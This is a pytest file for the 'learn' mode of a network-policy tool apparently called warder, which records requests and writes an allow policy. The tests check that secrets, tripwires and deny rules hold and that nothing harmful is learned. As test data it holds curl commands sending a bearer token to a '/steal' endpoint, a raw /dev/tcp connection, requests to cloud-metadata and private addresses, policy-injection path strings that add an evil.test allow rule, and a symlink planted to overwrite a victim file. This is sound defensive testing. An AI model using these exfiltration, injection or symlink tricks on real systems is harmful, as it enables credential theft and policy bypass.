"""Learning a policy: from a run that is observed and from records; what observing never lets through."""

import os

import pytest

from support.bench import BEARER, SECRET
from support.marks import both_users

NO_RULES = [{"name": "none", "hosts": ["nobody.test"], "action": "allow"}]
CURL = 'curl -sS -o /dev/null -w "%{http_code} "'
WORK = (f"{CURL} https://api.test/ok; {CURL} -X POST -d x https://api.test/echo; "
        f"{CURL} http://other.test/status/204; {CURL} {BEARER} https://api.test/whoami")


def learn(bench, cmd, *args, out="learned.yaml", creates=()):
    """`warder learn -- CMD`; the policy as text, which lies in `out` too."""
    named = ("--out", out) if out else ()
    done = bench.warder_command("learn", "--config", "t.yaml", "--policy", "t", *named, *args, "--",
                                "/bin/sh", "-c", cmd, creates=(*([out] if out else ()), *creates))
    return done, (bench.ws / out).read_text() if out and (bench.ws / out).exists() else ""


def intents(done, **wanted):
    return [r for r in done.records
            if r["type"] == "intent" and all(r.get(k) == v for k, v in wanted.items())]


@both_users
def test_what_was_observed_is_allowed_afterwards_and_nothing_else(bench, echo):
    bench.config(rules=NO_RULES)
    done, policy = learn(bench, WORK)
    assert done.code == 0 and done.text.split() == ["200", "200", "204", "200"], done
    assert done.error.count("OBSERVE MODE") == 2 and "4 requests that no rule allows" in done.error, done
    start, = [r for r in done.records if r["type"] == "session_start"]
    assert start["mode"] == "observe", start
    seen = intents(done, decision="observe")
    assert len(seen) == 4 and {r["reason"] for r in seen} == {"host_not_allowed"}, seen
    assert not any(r["rule"] for r in seen), seen
    assert bench.verify().returncode == 0

    again = bench.run(WORK, config="learned.yaml")
    assert again.text.split() == ["200", "200", "204", "200"], (again, policy)
    assert "OBSERVE" not in again.error
    assert not [r for r in again.records[len(done.records):] if r.get("decision") == "observe"]
    other = bench.run(f"{CURL} -X DELETE https://api.test/ok; {CURL} https://api.test/admin; "
                      "curl -sS https://evil.test/ || echo none", config="learned.yaml")
    assert other.text.split() == ["403", "403", "none"], (other, policy)
    assert SECRET not in policy and "api.test" in policy and "e.g. GET https://api.test/ok" in policy, policy


def test_without_a_file_the_policy_is_printed(bench, echo):
    bench.config(rules=NO_RULES)
    done, _ = learn(bench, "curl -sS -o /dev/null https://api.test/ok", out=None)
    assert done.code == 0, done
    assert "version: 1\n" in done.text and 'paths: ["/ok"]' in done.text, done
    bench.write("printed.yaml", done.text)
    assert bench.run(f"{CURL} https://api.test/ok", config="printed.yaml").text.strip() == "200"


def test_the_exit_code_is_the_commands_own(bench, echo):
    bench.config(rules=NO_RULES)
    done, policy = learn(bench, "curl -sS -o /dev/null https://api.test/ok; exit 7")
    assert done.code == 7 and "api.test" in policy, done


def test_secrets_go_only_where_a_grant_says(bench, echo):
    """A tripwire, a foreign credential and a wrong place refuse as ever, and teach nothing."""
    bench.config(rules=NO_RULES)
    done, policy = learn(bench, f"""
        {CURL} {BEARER} https://other.test/steal
        {CURL} -H "X-Other: $API_TOKEN" https://api.test/misplaced
        {CURL} -H "Authorization: Bearer ghp_someone-elses-own-token" https://api.test/foreign
        {CURL} {BEARER} http://api.test/clear
        {CURL} -d "$API_TOKEN" https://other.test/body
        curl -sS {BEARER} https://api.test/whoami""")
    assert done.text.split()[:5] == ["403"] * 5, done
    received = echo.received + echo.clear.received
    assert received.count(SECRET.encode()) == 1, received
    assert SECRET not in done.text
    reasons = [r["reason"] for r in intents(done, decision="deny")]
    assert set(reasons) == {"placeholder_wrong_host", "placeholder_wrong_place",
                            "foreign_credential"}, reasons
    for path in ("steal", "misplaced", "foreign", "clear", "/body"):
        assert path not in policy, policy
    assert 'paths: ["/whoami"]' in policy, policy
    assert "no evidence (tripwires" in policy, policy


def test_a_deny_rule_denies_all_the_same(bench, echo):
    bench.config(rules=[{"name": "no-admin", "hosts": ["api.test"], "paths": ["/admin/**"], "action": "deny"},
                        {"name": "no-other", "hosts": ["other.test"], "action": "deny"}])
    done, policy = learn(bench, f"""
        {CURL} https://api.test/ok; {CURL} https://api.test/admin/x; {CURL} https://api.test/%61dmin/y
        curl -sS https://other.test/ || echo none
        {CURL} --resolve other.test:443:203.0.113.7 https://other.test/""")
    assert done.text.split() == ["200", "403", "403", "none", "403"], done
    assert {r["rule"] for r in intents(done, decision="deny")} == {"no-admin", "no-other"}, done.records
    assert "name: no-admin" in policy and "deny rule no-admin refuses it" not in policy, policy
    assert "refused by a deny rule" in policy and "look-up of other.test" in policy, policy
    after = bench.run(f"{CURL} https://api.test/ok; {CURL} https://api.test/admin/x; "
                      "curl -sS https://other.test/ || echo none", config="learned.yaml")
    assert after.text.split() == ["200", "403", "none"], after


def test_private_addresses_trace_and_raw_tcp_do_not_pass(bench, echo):
    bench.config(rules=NO_RULES)
    done, policy = learn(bench, f"""
        for address in 10.0.0.1 169.254.169.254 192.168.1.1; do {CURL} http://$address/; done
        {CURL} -X TRACE https://api.test/ok
        bash -c 'exec 3<>/dev/tcp/db.test/5432; head -c 1 <&3 | wc -c'
        """)
    codes = done.text.split()
    assert codes[:4] == ["403"] * 4, done
    assert codes[4:] in (["0"], []), done
    assert echo.requests == [] and echo.clear.requests == [], done
    assert "hosts: [db.test], ports: [5432], action: tcp}" in policy, policy
    for never in ("10.0.0.1]", "169.254.169.254]", "192.168.1.1]", "TRACE]"):
        assert never not in policy, policy


def test_one_authority_holds_while_observing(bench, echo):
    bench.config(rules=NO_RULES)
    done, policy = learn(bench, f"""
        {CURL} -H 'Host: other.test' https://api.test/fronted
        {CURL} --resolve other.test:443:$(getent ahostsv4 api.test | head -n 1 | cut -d ' ' -f 1) https://other.test/moved""")
    assert done.text.split() == ["421", "421"], done
    assert echo.requests == [], done
    assert "fronted" not in policy and "moved" not in policy, policy


def test_from_the_records_of_an_ordinary_run(bench, echo):
    bench.config()
    first = bench.run(f"{CURL} https://api.test/ok; {CURL} -X DELETE https://api.test/ok; "
                      "curl -sS https://third.test/; true")
    assert first.text.split() == ["200", "403"], first
    done = bench.warder_command("learn", "--from", "audit/audit.jsonl")
    assert done.code == 0 and "not verified" in done.error, done
    assert 'hosts: [api.test], methods: [DELETE, GET], paths: ["/ok"], action: allow}' in done.text, done
    assert 'hosts: [third.test], methods: [GET, HEAD], paths: ["/"], action: allow}' in done.text, done
    assert "  t:\n" in done.text, done
    based = bench.warder_command("learn", "--from", "audit/audit.jsonl", "--config", "t.yaml",
                                 "--out", "x.yaml", creates=("x.yaml",))
    assert based.code == 0, based
    assert bench.run(f"{CURL} https://api.test/ok; {CURL} -X DELETE https://api.test/ok",
                     config="x.yaml").text.split() == ["200", "200"]
    session = [r for r in bench.records() if r["type"] == "session_start"][0]["session"]
    assert bench.warder_command("learn", "--from", "audit/audit.jsonl", "--session", session).code == 0
    wrong = bench.warder_command("learn", "--from", "audit/audit.jsonl", "--session", "nobody")
    assert wrong.code == 2 and "nobody" in wrong.error and not wrong.text, wrong
    absent = bench.warder_command("learn", "--from", "absent.jsonl")
    assert absent.code == 2 and "absent.jsonl" in absent.error, absent


HOSTILE = ['/a"],action:allow}', "/x#y", "/%0a-%20{hosts:[evil.test],action:allow}", "/a'b", "/{a}/*/**",
           "/[secret:tok]", "/a]},{hosts:[evil.test],action:allow}"]


def test_hostile_paths_stay_in_their_comments(bench, echo):
    bench.config(rules=NO_RULES)
    urls = " ".join(f"'https://api.test{p}'" if "'" not in p else f'"https://api.test{p}"' for p in HOSTILE)
    done, policy = learn(bench, f"for url in {urls}; do curl -gsS -o /dev/null \"$url\"; done")
    assert done.code == 0, done
    assert len(intents(done, decision="observe")) == len(HOSTILE), done.records
    assert policy.isascii() and all(c == "\n" or c.isprintable() for c in policy), policy
    assert policy.count("action: allow}") == 1, policy
    after = bench.run("curl -sS https://evil.test/ || echo none", config="learned.yaml")
    assert after.text.strip() == "none", (after, policy)


def test_diff_says_what_was_granted_and_not_used(bench, echo):
    bench.config()
    bench.run(f"{CURL} https://api.test/ok")
    told = bench.warder_command("learn", "--diff", "--config", "t.yaml", "--from", "audit/audit.jsonl")
    assert told.code == 0 and "rule 'other'" in told.text and "grant of 'tok'" in told.text, told
    assert "rule 'api'" not in told.text, told
    told = bench.warder_command("learn", "--diff", "--json", "--config", "t.yaml", "--from",
                                "audit/audit.jsonl")
    assert [r["rule"] for r in told.json["rules"]] == ["other"], told
    assert told.json["grants"] == [{"name": "tok", "where": told.json["grants"][0]["where"],
                                    "hosts": ["api.test"]}], told
    bench.run(f"{CURL} {BEARER} https://api.test/whoami; {CURL} https://other.test/ok")
    told = bench.warder_command("learn", "--diff", "--config", "t.yaml", "--from", "audit/audit.jsonl")
    assert told.code == 0 and "everything that it grants was used" in told.text, told


def test_the_file_is_never_written_over_or_through_a_link(bench, echo):
    bench.config(rules=NO_RULES)
    bench.write("there.yaml", "mine\n")
    done, _ = learn(bench, "echo ran", out="there.yaml")
    assert done.code == 2 and "--force" in done.error and "ran" not in done.text, done
    assert (bench.ws / "there.yaml").read_text() == "mine\n"
    done, policy = learn(bench, "echo ran", "--force", out="there.yaml")
    assert done.code == 0 and policy.startswith("#"), done

    victim = bench.home / "victim"
    victim.write_text("precious\n")
    plant = f"ln -s {victim} planted.yaml; {CURL} https://api.test/ok"
    done, _ = learn(bench, plant, out="planted.yaml")
    assert done.code == 125 and "planted.yaml" in done.error, done
    assert victim.read_text() == "precious\n"
    assert os.path.islink(bench.ws / "planted.yaml")
    done, policy = learn(bench, f"{CURL} https://api.test/ok", "--force", out="planted.yaml")
    assert done.code == 0 and "api.test" in policy, done
    assert victim.read_text() == "precious\n" and not os.path.islink(bench.ws / "planted.yaml")


def test_mode_observe_in_a_policy(bench, echo):
    bench.config(rules=NO_RULES)
    text = (bench.ws / "t.yaml").read_text().replace('{"t": {', '{"t": {"mode": "observe", ')
    bench.write("t.yaml", text)
    done = bench.run(f"{CURL} https://api.test/ok")
    assert done.text.strip() == "200" and done.error.count("OBSERVE MODE") == 2, done
    assert [r["mode"] for r in done.records if r["type"] == "session_start"] == ["observe"]
    bench.write("t.yaml", text.replace('"observe"', '"watch"'))
    done = bench.run("true")
    assert done.code == 2 and "write enforce or observe" in done.error, done


@pytest.mark.parametrize("args, word", [
    (["--from", "a", "--", "true"], "leave CMD out"), ([], "what to learn from"),
    (["--json", "--", "true"], "--diff"), (["--diff", "--out", "x"], "--out"),
    (["--from", "a", "--policy", "no spaces"], "letters")])
def test_arguments_that_contradict(bench, args, word):
    done = bench.warder_command("learn", *args)
    assert done.code == 2 and word in done.error, done
